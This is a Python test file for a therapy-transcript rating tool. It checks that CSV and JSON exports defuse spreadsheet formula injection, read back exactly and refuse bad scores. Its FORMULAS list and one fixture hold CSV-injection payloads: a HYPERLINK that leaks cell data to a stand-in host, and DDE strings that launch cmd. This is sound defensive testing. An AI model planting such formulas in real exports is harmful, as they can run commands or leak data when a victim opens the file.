"""Rating exports a spreadsheet cannot be attacked through, that read back exactly, and that refuse bad scores.

Real SQLite stores and the real CLI; comments and therapist names a hostile rater or uploader could write.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import math

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from test_rating import canary_pair, full_answer, pairs_jsonl, rate_all

from cbtcompare import rating
from cbtcompare.cli import main
from cbtcompare.rating.export_format import (
    RatingsFileError,
    dumps,
    neutralise_cell,
    read_long_ratings,
    restore_cell,
)
from cbtcompare.store import Store

FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "'=1+1",
    "＝1+1",
]
FORMULA_START = tuple("=+-@\t\r＝＋－＠")


@pytest.fixture(autouse=True)
def instant_reading(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(rating.READING_WPM_ENV, "1e9")


@pytest.fixture
def store(tmp_path) -> Store:
    return Store(f"sqlite:///{tmp_path / 'export.sqlite'}")


def rated_study(store: Store, comments: list[str]) -> rating.CreatedStudy:
    first, second = canary_pair("export")
    first = first.model_copy(update={"therapist": {**first.therapist, "name": "=cmd|' /C calc'!A0"}})
    uploaded = rating.store_uploaded_pairs(store, io.StringIO(pairs_jsonl([(first, second)])))
    created = rating.create_study(store, uploaded, rating.StudySpec(raters=len(comments)), source="test")
    for code, comment in zip(created.invite_codes, comments, strict=True):
        rate_all(store, code, lambda v, c=comment: full_answer(comment=c))
    return created


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def dangerous(cell: str) -> bool:
    return cell.lstrip("' ").startswith(FORMULA_START) and not cell.startswith("'")


def test_formula_comments_and_names_are_neutralised_in_every_ratings_csv(store, tmp_path, monkeypatch, capsys):
    created = rated_study(store, FORMULAS)
    out = io.StringIO()
    rating.write_export(store, created.study_id, out, "csv")
    assert not [c for c in cells(out.getvalue()) if dangerous(c)]
    # Read back, every comment and name is exactly what was written.
    back = rating.read_export(io.StringIO(out.getvalue()), "csv")
    assert sorted(r["comment"] for r in back) == sorted(c.strip() for c in FORMULAS)
    assert back == rating.export_records(store, created.study_id)
    # The long CSV (`rating export --format long`, the input of `report --ratings`) too.
    monkeypatch.setenv("CBTCOMPARE_DB_URL", store.url)
    assert main(["rating", "export", "--study", created.study_id, "--format", "long"]) == 0
    long_csv = capsys.readouterr().out
    assert "=cmd" in long_csv and not [c for c in cells(long_csv) if dangerous(c)]
    frame = read_long_ratings(io.StringIO(long_csv))
    assert "=cmd|' /C calc'!A0" in set(frame["therapist"])


@settings(deadline=None, max_examples=200, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.text(max_size=60))
def test_any_cell_round_trips_and_never_starts_a_formula(value):
    written = neutralise_cell(value)
    assert restore_cell(written) == value
    assert not dangerous(written)


@pytest.mark.parametrize(
    ("column", "value", "message"),
    [
        ("A_agenda", "-40", "line 2, column A_agenda: score -40 is outside 1-10"),
        ("B_homework", "999", "line 2, column B_homework: score 999 is outside 1-10"),
        ("A_agenda", "nan", "line 2, column A_agenda: 'nan' is not a score"),
        ("A_agenda", "7.5", "line 2, column A_agenda: '7.5' is not a score"),
        ("confidence", "9", "line 2, column confidence: confidence 9 is outside 1-5"),
        ("seconds_to_rate", "inf", "line 2, column seconds_to_rate: 'inf' is not a number"),
    ],
)
def test_a_ratings_csv_with_a_score_outside_the_rubric_is_refused_naming_line_and_column(store, column, value, message):
    created = rated_study(store, ["fine"])
    out = io.StringIO()
    rating.write_export(store, created.study_id, out, "csv")
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    rows[0][column] = value
    edited = io.StringIO()
    writer = csv.DictWriter(edited, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    with pytest.raises(RatingsFileError, match=message.replace("(", r"\(")):
        rating.read_export(io.StringIO(edited.getvalue()), "csv")


def test_a_long_ratings_csv_is_checked_against_its_rubric():
    good = "transcript_id,item,score,rubric_id\nt1,agenda,6,ctrs-classic-0-6\nt2,agenda,,ctrs-paper-1-10\n"
    frame = read_long_ratings(io.StringIO(good))
    assert frame["score"].iloc[0] == 6 and math.isnan(frame["score"].iloc[1])
    for body, message in (
        ("t1,agenda,999,ctrs-paper-1-10", "line 2, column score: score 999 is outside 1-10"),
        ("t1,agenda,7,ctrs-classic-0-6", "line 2, column score: score 7 is outside 0-6"),
        ("t1,agenda,-40,", "line 2, column score: score -40 is outside 1-10"),
        ("t1,agenda,5,no-such-rubric", "line 2, column score: unknown rubric 'no-such-rubric'"),
    ):
        with pytest.raises(RatingsFileError, match=message):
            read_long_ratings(io.StringIO("transcript_id,item,score,rubric_id\n" + body + "\n"))
    with pytest.raises(RatingsFileError, match="missing column"):
        read_long_ratings(io.StringIO("transcript,item\nx,y\n"))


def strict_json(text: str) -> list[object]:
    def refuse(token: str) -> object:
        raise AssertionError(f"{token} is not JSON")

    return [json.loads(line, parse_constant=refuse) for line in text.splitlines() if line.strip()]


def test_every_json_a_rating_command_prints_is_standard_json(store, monkeypatch, capsys):
    # One rater, ties only and no confidence: many statistics are undefined (NaN) here.
    first, second = canary_pair("nan")
    uploaded = rating.store_uploaded_pairs(store, io.StringIO(pairs_jsonl([(first, second)])))
    spec = rating.StudySpec(raters=1, choices=rating.StudyChoices(confidence=False))
    created = rating.create_study(store, uploaded, spec, source="test")
    rate_all(store, created.invite_codes[0], lambda v: {**full_answer(preference="tie"), "confidence": None})
    monkeypatch.setenv("CBTCOMPARE_DB_URL", store.url)
    for command in (
        ["rating", "report", "--study", created.study_id, "--json"],
        ["rating", "progress", "--study", created.study_id, "--json"],
        ["rating", "export", "--study", created.study_id, "--format", "jsonl"],
        ["rating", "list", "--json"],
    ):
        assert main(command) == 0
        assert strict_json(capsys.readouterr().out), command
    report = strict_json(_stdout(lambda: main(["rating", "report", "--study", created.study_id, "--json"]), capsys))[0]
    assert report["shown_a_rate"] is None and report["reliability"]["preference_alpha"] is None


def _stdout(run, capsys) -> str:  # type: ignore[no-untyped-def]
    with contextlib.suppress(SystemExit):
        run()
    return capsys.readouterr().out


@settings(deadline=None, max_examples=100)
@given(
    st.recursive(
        st.floats() | st.integers() | st.text(max_size=5) | st.none(),
        lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=4), inner, max_size=4),
        max_leaves=20,
    )
)
def test_the_json_writer_emits_null_for_every_nan_and_nothing_else_changes(value):
    text = dumps(value)
    strict_json(text)
    if not _has_non_finite(value):
        assert json.loads(text) == value


def _has_non_finite(value: object) -> bool:
    if isinstance(value, float):
        return not math.isfinite(value)
    if isinstance(value, dict):
        return any(_has_non_finite(v) for v in value.values())
    if isinstance(value, list):
        return any(_has_non_finite(v) for v in value)
    return False
